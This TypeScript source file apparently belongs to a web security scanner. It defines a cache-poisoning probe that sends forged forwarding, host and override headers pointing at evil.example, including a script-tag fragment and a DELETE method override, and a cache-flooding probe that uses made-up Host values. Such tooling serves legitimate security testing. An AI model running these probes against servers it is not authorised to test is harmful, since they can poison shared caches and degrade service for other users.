import { type Attack, Finding } from '../attack.ts';
import { sendRequest } from '../requests.ts';

const evil = 'evil.example';

/**
 * Headers that some servers trust. `isReflected` finds only the forged host name and port in the response.
 * For values with neither, such as `https`, the attack checks only the status.
 */
const headers: readonly (readonly [name: string, value: string])[] = [
  ['X-Forwarded-Host', evil],
  ['X-Forwarded-Server', evil],
  ['X-Forwarded-Proto', 'https'],
  ['X-Forwarded-Scheme', 'https'],
  ['X-Forwarded-Port', '444'],
  ['X-Forwarded-Prefix', `//${evil}`],
  ['X-Forwarded-Path', `/${evil}`],
  ['X-Forwarded-For', `127.0.0.1, ${evil}`],
  ['Forwarded', `host=${evil};proto=https`],
  ['X-Host', evil],
  ['X-Original-Host', evil],
  ['X-Original-URL', `/${evil}/`],
  ['X-Rewrite-URL', `/${evil}/`],
  ['X-HTTP-Method-Override', 'DELETE'],
  ['X-HTTP-Host-Override', evil],
  ['X-Request-Id', `${evil}"><script>`],
  ['Origin', `https://${evil}`],
  ['Referer', `https://${evil}/`],
  ['Via', `1.1 ${evil}`],
  ['True-Client-IP', evil],
  ['CF-Visitor', '{"scheme":"https"}'],
  ['Front-End-Https', 'on'],
  ['Accept', `text/${evil}`],
  ['Accept-Language', evil],
  ['User-Agent', evil],
  ['Cookie', `site=${evil}`],
  ['Sec-Fetch-Site', evil],
  ['Sec-Fetch-Dest', evil],
];

/** True if the response contains the forged host name or port, which would poison a cache. */
function isReflected({ headers: received, body }: { headers: object; body: string }): boolean {
  return body.includes(evil) || JSON.stringify(received).includes(evil) || body.includes(':444/');
}

/** Requests whose headers would change what other readers get from a cache. */
export function forwardingHeadersAttack(origin: string, seen: readonly string[]): Attack {
  const paths = [
    ...seen,
    '/robots.txt',
    '/sitemap.xml',
    '/feed.xml',
    '/api/config',
    '/api/menus/primary',
    '/unseen/',
  ];
  return {
    name: 'cache poisoning by forwarding headers',
    perSecond: 30,
    maxOpen: 10,
    allowedStatuses: [200, 304, 404, 503],
    async send(index) {
      const [name, value] = headers[index % headers.length] ?? ['X', ''];
      const path = paths[Math.floor(index / headers.length) % paths.length] ?? '/';
      const response = await sendRequest(origin, path, { headers: { [name]: value } });
      if (isReflected(response)) throw new Finding(`${path} shows the value of ${name}`);
      return response.status;
    },
  };
}

/**
 * Requests pages under many made-up hosts. A cache entry for each host would push other pages out of the
 * cache.
 */
export function hostsAttack(origin: string, seen: readonly string[]): Attack {
  return {
    name: 'made-up hosts',
    perSecond: 10,
    maxOpen: 4,
    allowedStatuses: [200, 503],
    async send(index) {
      const path = seen[index % seen.length] ?? '/';
      return (await sendRequest(origin, path, { headers: { Host: `host-${index}.example` } })).status;
    },
  };
}
